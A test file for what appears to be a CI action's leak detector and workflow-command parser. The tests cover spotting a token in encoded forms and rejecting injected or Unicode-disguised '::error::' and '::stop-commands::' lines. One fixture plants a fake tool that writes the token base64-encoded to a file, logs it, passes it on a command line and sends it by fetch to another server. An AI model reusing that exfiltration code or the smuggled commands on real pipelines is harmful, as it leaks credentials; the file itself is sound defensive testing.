import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { commandsIn } from '../fakes/runner-commands.js';
import { makeToken } from '../fakes/tokens.js';
import type { Fault } from './fault.js';
import { deploys, withNtcli } from './fixtures.js';
import { createLeakFinder } from './leaks.js';
import { runFault } from './run-fault.js';
import { unexpectedCommands } from './workflow-commands.js';

const token = makeToken();

// A detector must be seen to detect something.
describe('the leak finder', () => {
  const { formsIn } = createLeakFinder(token);
  const odd = createLeakFinder('a secret +/"\\ of more\nthan one line ');
  const base64 = (text: string) => Buffer.from(text).toString('base64');

  it.each([
    ['plain', token],
    ['plain', `x${token.slice(-12)}x`],
    ['plain', token.slice(40, 60)],
    ['hexadecimal', Buffer.from(token).toString('hex')],
    ['HEXADECIMAL', Buffer.from(token).toString('hex').toUpperCase()],
    ['base64 at shift 0', base64(token)],
    ['base64 at shift 1', base64(`x${token}`)],
    ['base64 at shift 2', base64(`x:${token}\n`)],
    ['base64 at shift 0', base64(`${'y'.repeat(57)}${token}`).replace(/.{76}/g, '$&\n')],
  ])('finds it %s', (form, text) => {
    expect(formsIn(`before ${text} behind`)).toContain(form);
  });

  it.each([
    ['line 1', 'a secret +/"\\ of more'],
    ['line 2', 'than one line '],
    ['URL-encoded', encodeURIComponent('a secret +/"\\ of more\nthan')],
    ['JSON-escaped', JSON.stringify('cret +/"\\ of more\nthan')],
    ['base64url at shift 0', Buffer.from('a secret +/"\\ of more\nthan one line ').toString('base64url')],
  ])('finds an odd one as %s', (form, text) => {
    expect(odd.formsIn(`before ${text} behind`)).toContain(form);
  });

  it('reports nothing else', () => {
    const [, other = ''] = [token, makeToken()];
    expect(formsIn(`${'***'.repeat(100)} ${token.slice(0, 11)} ${other.slice(-40)}`)).toEqual([]);
  });
});

describe('the parser of commands', () => {
  it.each([
    ['::error::x', 'error'],
    ['::error file=a,line=1::x', 'error'],
    ['\t\u00a0\u0085\u2028\ufeff::stop-commands::x', 'stop-commands'],
    ['a\r::error::x', 'error'],
    ['words ##[warning]x', 'warning'],
    ['words ##[a b=c;d=e]x', 'a'],
    [':\u200b:error::x', 'error'],
    ['#\u00ad#[error]x', 'error'],
  ])('finds the one in %j', (text, name) => {
    expect(commandsIn(text).map((command) => command.name)).toEqual([name]);
  });

  it.each([
    'std::vector::size',
    ': :error::x',
    '::error:x',
    '## [error]',
    '##[error',
    '│ ::error::x',
    '::::',
  ])('finds none in %j', (text) => {
    expect(commandsIn(text)).toEqual([]);
  });

  it.each([
    ' ::error title=Bad input::x',
    '::error::without a title',
    '::error title=Of another program::x',
    '::add-mask::e',
    '::group::Of another program',
    '::set-output name=a::b',
    'x ##[error]x',
  ])('does not take %j for ours', (line) => {
    expect(unexpectedCommands(line, [token])).toEqual([line]);
  });

  it('accepts the commands that we print', () => {
    const ours = [
      `::add-mask::${token}`,
      '::group::Install ntcli',
      '::endgroup::',
      '::error title=Bad input::x',
    ];
    expect(unexpectedCommands(ours.join('\n'), [token])).toEqual([]);
  });
});

describe('a run', () => {
  it('is searched in all its files, its log and its command lines', async () => {
    const fault: Fault = {
      area: 'Token',
      what: 'an ntcli that gives the token away',
      expected: 'is found out',
      arrange(sandbox) {
        const file = join(sandbox.job.places.checkout, 'leak');
        const wait = join(sandbox.outside('wait'), 'wait.js');
        writeFileSync(wait, 'setTimeout(() => {}, 500)');
        return withNtcli(
          sandbox,
          `import { writeFileSync } from 'node:fs';
           import { spawnSync } from 'node:child_process';
           const token = ${JSON.stringify(sandbox.token)};
           writeFileSync(${JSON.stringify(file)}, 'x' + Buffer.from('y' + token).toString('base64'));
           console.log([...token].join('-'), [...token].reverse().join(''));
           spawnSync(process.execPath, [${JSON.stringify(wait)}, token]);
           await fetch(${JSON.stringify(sandbox.otherServer.url)} + '/?' + token);
           ${deploys}`,
        );
      },
      expect: { exit: 0, title: null },
    };
    const seen = await runFault(fault, 'plain');
    await seen.sandbox.end();
    expect(seen.leaks).toContain('after main: checkout/leak: base64 at shift 1');
    expect(seen.leaks).toContain('after post: checkout/leak: base64 at shift 1');
    expect(seen.leaks).toContain('a request to another server: plain');
    if (process.platform === 'linux') expect(seen.leaks).toContain('a command line: plain');
  });
});
